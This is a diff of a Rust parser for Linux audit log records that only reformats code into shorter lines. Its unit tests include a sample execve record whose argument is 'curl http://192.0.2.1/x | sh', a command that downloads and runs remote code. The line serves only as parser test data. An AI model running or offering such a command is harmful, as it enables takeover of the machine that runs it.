@@ -71,10 +71,17 @@ fn key_byte(byte: u8) -> bool {
 /// Where the next ` key=` starts.
 fn next_key(bytes: &[u8]) -> usize {
     let mut from = 0;
-    while let Some(at) = bytes.get(from..).and_then(|rest| memchr::memchr(b'=', rest)) {
+    while let Some(at) = bytes
+        .get(from..)
+        .and_then(|rest| memchr::memchr(b'=', rest))
+    {
         let equals = from + at;
         let head = bytes.get(..equals).unwrap_or_default();
-        let key = head.iter().rev().take_while(|byte| key_byte(**byte)).count();
+        let key = head
+            .iter()
+            .rev()
+            .take_while(|byte| key_byte(**byte))
+            .count();
         let start = equals - key;
         if key > 0 && start > 0 && matches!(head.get(start - 1), Some(b' ')) {
             return start - 1;
@@ -89,7 +96,10 @@ impl<'a> Iterator for Fields<'a> {
 
     fn next(&mut self) -> Option<Self::Item> {
         loop {
-            let skip = self.rest.iter().take_while(|b| matches!(**b, b' ' | ENRICHMENT | b',' | b'\''));
+            let skip = self
+                .rest
+                .iter()
+                .take_while(|b| matches!(**b, b' ' | ENRICHMENT | b',' | b'\''));
             let skip = skip.count();
             self.rest = self.rest.get(skip..)?;
             let equals = memchr::memchr2(b'=', b' ', self.rest)?;
@@ -116,11 +126,17 @@ impl<'a> Iterator for Fields<'a> {
             } else if self.interpreted {
                 after.split_at_checked(next_key(after))?
             } else {
-                let end = after.iter().position(|b| matches!(*b, b' ' | b'\'' | ENRICHMENT));
+                let end = after
+                    .iter()
+                    .position(|b| matches!(*b, b' ' | b'\'' | ENRICHMENT));
                 after.split_at_checked(end.unwrap_or(after.len()))?
             };
             self.rest = rest;
-            let value = if self.interpreted { value.trim_ascii_end() } else { value };
+            let value = if self.interpreted {
+                value.trim_ascii_end()
+            } else {
+                value
+            };
             return Some((key, value));
         }
     }
@@ -183,20 +199,36 @@ mod tests {
 
     #[test]
     fn takes_bodies_apart() {
-        let found = fields("arch=c000003e comm=\"a b\" key=(null)\u{1d}UID=\"me\" X=1", false);
-        let expected = [("arch", "c000003e"), ("comm", "\"a b\""), ("key", "(null)"), ("UID", "\"me\""), ("X", "1")];
+        let found = fields(
+            "arch=c000003e comm=\"a b\" key=(null)\u{1d}UID=\"me\" X=1",
+            false,
+        );
+        let expected = [
+            ("arch", "c000003e"),
+            ("comm", "\"a b\""),
+            ("key", "(null)"),
+            ("UID", "\"me\""),
+            ("X", "1"),
+        ];
         assert_eq!(found, expected.map(|(k, v)| (k.to_owned(), v.to_owned())));
         let found = fields("pid=1 msg='op=login acct=\"root\" res=success'", false);
         assert!(found.contains(&("acct".to_owned(), "\"root\"".to_owned())));
         assert!(found.contains(&("res".to_owned(), "success".to_owned())));
         let found = fields("argc=3 a0=sh a1=-c a2=curl http://192.0.2.1/x | sh ", true);
-        assert_eq!(found[3], ("a2".to_owned(), "curl http://192.0.2.1/x | sh".to_owned()));
+        assert_eq!(
+            found[3],
+            ("a2".to_owned(), "curl http://192.0.2.1/x | sh".to_owned())
+        );
     }
 
     #[test]
     fn reads_headers() {
-        let h = header(b"node=web1 type=SYSCALL msg=audit(1795220467.679:24): arch=c000003e").unwrap();
-        assert_eq!((h.node, h.kind, h.serial), (&b"web1"[..], &b"SYSCALL"[..], 24));
+        let h =
+            header(b"node=web1 type=SYSCALL msg=audit(1795220467.679:24): arch=c000003e").unwrap();
+        assert_eq!(
+            (h.node, h.kind, h.serial),
+            (&b"web1"[..], &b"SYSCALL"[..], 24)
+        );
         assert_eq!(h.time.0, 1_795_220_467_679_000);
         let h = header(b"type=CWD msg=audit(11/21/26 00:21:07.679:23) : cwd=/home").unwrap();
         assert!(h.interpreted);
